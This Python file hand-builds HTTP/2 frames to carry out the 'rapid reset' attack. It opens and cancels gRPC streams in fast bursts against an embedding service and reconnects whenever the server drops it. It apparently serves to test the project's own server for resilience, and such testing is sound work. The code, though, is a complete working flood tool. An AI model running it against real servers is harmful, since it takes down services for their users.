"""Streams that are opened and reset at once, as fast as a connection takes them: the attack called rapid reset.

Why by hand and not with gRPC or an HTTP/2 library: a library waits for what the server allows and spends more on a
stream than the server does. Here a burst of streams is one piece of bytes, made with two copies per stream.

Trap: the server's answers must be read, or its socket is full and it stops by itself, which says nothing about it.
"""

from __future__ import annotations

import asyncio
import struct
from contextlib import suppress
from dataclasses import dataclass
from enum import IntEnum
from typing import Final

METHOD: Final = "/reidstream.v1.EmbeddingService/EmbedStream"
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_LAST_STREAM: Final = 2**31 - 1
_HEADER_BYTES: Final = 9


class Frame(IntEnum):
    """The types of HTTP/2 frames that attacks use, by their numbers on the wire."""

    DATA = 0
    HEADERS = 1
    RST_STREAM = 3
    SETTINGS = 4
    PING = 6
    GOAWAY = 7
    WINDOW_UPDATE = 8
    CONTINUATION = 9


class Flag(IntEnum):
    """Flags of frames; the meaning of a bit depends on the type."""

    NONE = 0
    ACK = 1
    END_STREAM = 1
    END_HEADERS = 4


def frame(kind: Frame, flags: Flag, stream: int, payload: bytes = b"") -> bytes:
    """One frame as it is on the wire."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def field(name: str, value: str) -> bytes:
    """A header, literal and never indexed, as HPACK writes it without a table; up to 126 bytes each."""
    return b"\x10" + b"".join(bytes((len(text),)) + text.encode() for text in (name, value))


def request_headers(method: str = METHOD, *more: tuple[str, str]) -> bytes:
    """The header block of a gRPC call."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost")]
    fields += [("te", "trailers"), ("content-type", "application/grpc"), *more]
    return b"".join(field(name, value) for name, value in fields)


@dataclass(slots=True)
class Told:
    """What the server said on a connection."""

    resets: int = 0
    frames: int = 0
    goaway: bytes = b""


@dataclass(slots=True, eq=False)
class RawConnection:
    """A connection that speaks HTTP/2 frames and keeps no rule of its own. Close it at the end."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    told: Told
    _answers: asyncio.Task[None] | None = None

    @classmethod
    async def to(cls, address: str, *, settings: bytes = b"") -> RawConnection:
        """Connect to HOST:PORT, and begin to read what is said."""
        host, _, port = address.rpartition(":")
        reader, writer = await asyncio.open_connection(host.strip("[]"), int(port))
        connection = cls(reader, writer, Told())
        writer.write(PREFACE + frame(Frame.SETTINGS, Flag.NONE, 0, settings))
        await writer.drain()
        connection._answers = asyncio.create_task(connection._read())
        return connection

    @property
    def over(self) -> bool:
        """Whether the server has closed it."""
        return self._answers is None or self._answers.done()

    async def send(self, data: bytes) -> bool:
        """Write; waits while the socket is full. False: the server has closed the connection."""
        if self.over:
            return False
        try:
            self.writer.write(data)
            await self.writer.drain()
        except OSError:
            return False
        return True

    async def close(self) -> None:
        """End it without a word."""
        if self._answers is not None:
            self._answers.cancel()
        self.writer.close()
        with suppress(OSError):
            await self.writer.wait_closed()

    async def _read(self) -> None:
        """Take what comes; acknowledge settings and pings, as a peer must that wants to stay."""
        with suppress(asyncio.IncompleteReadError, OSError):
            while True:
                head = await self.reader.readexactly(_HEADER_BYTES)
                payload = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags = head[3], head[4]
                self.told.frames += 1
                if kind == Frame.RST_STREAM:
                    self.told.resets += 1
                elif kind == Frame.GOAWAY:
                    self.told.goaway = payload
                elif kind in {Frame.SETTINGS, Frame.PING} and not flags & Flag.ACK:
                    body = payload if kind == Frame.PING else b""
                    self.writer.write(frame(Frame(kind), Flag.ACK, 0, body))


@dataclass(slots=True)
class Flood:
    """How much an attack has sent. `connections`: how many it needed, since the server may close one."""

    streams: int = 0
    connections: int = 0
    goaways: int = 0
    refused: int = 0


async def reset_streams(
    address: str, flood: Flood, *, per_second: float = 1e9, burst: int = 100, method: str = METHOD
) -> None:
    """Open streams of a method and reset them at once, until cancelled. Connects again when it is thrown out."""
    headers = request_headers(method)
    opened = frame(Frame.HEADERS, Flag.END_HEADERS, 0, headers)
    ended = frame(Frame.RST_STREAM, Flag.NONE, 0, struct.pack(">I", 8))  # CANCEL
    pair = bytearray((opened + ended) * burst)
    places = [at + 5 for start in range(0, len(pair), len(opened + ended)) for at in (start, start + len(opened))]
    while True:
        connection = await RawConnection.to(address)
        flood.connections += 1
        stream = 1
        try:
            while stream + 2 * burst < _LAST_STREAM:
                for index, place in enumerate(places):
                    struct.pack_into(">I", pair, place, stream + 2 * (index // 2))
                if not await connection.send(bytes(pair)):
                    break
                stream += 2 * burst
                flood.streams += burst
                await asyncio.sleep(burst / per_second)  # also lets others run while the socket takes all
        finally:
            flood.goaways += bool(connection.told.goaway)
            flood.refused += connection.told.resets
            await connection.close()
